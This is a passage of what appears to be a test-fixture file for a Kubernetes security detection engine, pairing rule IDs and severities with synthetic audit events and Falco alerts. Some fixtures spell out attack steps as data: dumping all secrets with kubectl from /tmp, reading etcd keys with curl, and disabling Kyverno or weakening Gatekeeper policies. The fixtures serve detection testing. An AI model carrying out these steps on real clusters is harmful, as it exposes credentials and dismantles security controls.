  ]);
  add('k8s-secret-in-env-reference', 'informational', 'a secretKeyRef env', [
    deploymentWith(
      'cart',
      podSpec([
        container('cart', 'ghcr.io/acme/cart:2.4.1', undefined, {
          env: [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
        }),
      ]),
    ),
  ]);
  add('k8s-default-serviceaccount-automount', 'low', 'a Deployment on the default service account', [
    deploymentWith('web', podSpec([container('web', 'ghcr.io/acme/web:3.2.7')])),
  ]);
  add('k8s-admission-policy-denied', 'low', 'Gatekeeper denies a Deployment', [
    audit({
      at: at(0),
      actor: alice,
      verb: 'create',
      ref: { resource: 'deployments', namespace: 'shop', name: 'web' },
      code: 403,
      reason: 'Forbidden',
      message:
        'admission webhook "validation.gatekeeper.sh" denied the request: [must-have-owner] you must provide labels: {"owner"}',
    }),
  ]);
  add('k8s-image-signature-verification-failed', 'medium', 'Kyverno refuses an unsigned image', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'create',
      ref: { resource: 'pods', namespace: 'shop', name: 'web' },
      code: 400,
      reason: 'BadRequest',
      message:
        'admission webhook "mutate.kyverno.svc-fail" denied the request: \n\nresource Pod/shop/web was blocked due to the following policies\n\nverify-image-signature:\n  verify-signature: \'failed to verify image ghcr.io/acme/web:3.2.8: .attestors[0].entries[0].keys: no matching signatures\'',
    }),
  ]);
  add('k8s-policy-engine-tampering', 'high', 'Kyverno scaled to zero', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'patch',
      ref: {
        resource: 'deployments',
        namespace: 'kyverno',
        name: 'kyverno-admission-controller',
        subresource: 'scale',
      },
      requestObject: { spec: { replicas: 0 } },
    }),
  ]);

  add('falco-k8s-client-in-container', 'high', 'Falco sees kubectl run from /tmp in a web pod', [
    falcoAlert(
      at(0),
      'Kubernetes client run in container by untrusted user',
      'Warning',
      'shop',
      'web-7d9f8c6b5-x2x4q',
      {
        'proc.cmdline': 'kubectl get secrets -A',
        'proc.exepath': '/tmp/kubectl',
        'proc.name': 'kubectl',
        'proc.pname': 'sh',
      },
    ),
  ]);
  add('falco-etcd-unexpected-connection', 'critical', 'Falco sees curl connect to etcd from a pod', [
    falcoAlert(at(0), 'Unexpected connection to etcd', 'Critical', 'default', 'debug', {
      'proc.cmdline': 'curl -k https://10.0.0.11:2379/v2/keys',
      'proc.name': 'curl',
      'fd.name': '10.244.1.7:51842->10.0.0.11:2379',
    }),
  ]);
  add('k8s-gatekeeper-constraint-weakened', 'high', 'a Gatekeeper constraint switched to dryrun', [
    audit({
      at: at(0),
      actor: mallory,
      verb: 'patch',
      ref: {
        resource: 'k8spspprivilegedcontainer',
        name: 'psp-privileged-container',
        apiGroup: 'constraints.gatekeeper.sh',
        apiVersion: 'v1beta1',
      },
      requestObject: { spec: { enforcementAction: 'dryrun' } },
    }),
  ]);
  add(
    'k8s-admission-policy-audit-failure',
    'low',
    'a ValidatingAdmissionPolicy in Audit mode records a failure',
    [
      audit({
        at: at(0),
        actor: alice,
        verb: 'create',
        ref: { resource: 'deployments', namespace: 'shop', name: 'web' },
        annotations: {
          'authorization.k8s.io/decision': 'allow',
          'authorization.k8s.io/reason': '',
          'validation.policy.admission.k8s.io/validation_failure':
            '[{"message":"failed expression: object.spec.replicas <= 5","policy":"replica-limit.example.com","binding":"replica-limit-binding.example.com","expressionIndex":0,"validationActions":["Audit"]}]',
        },
      }),
    ],
  );
  return cases;
}
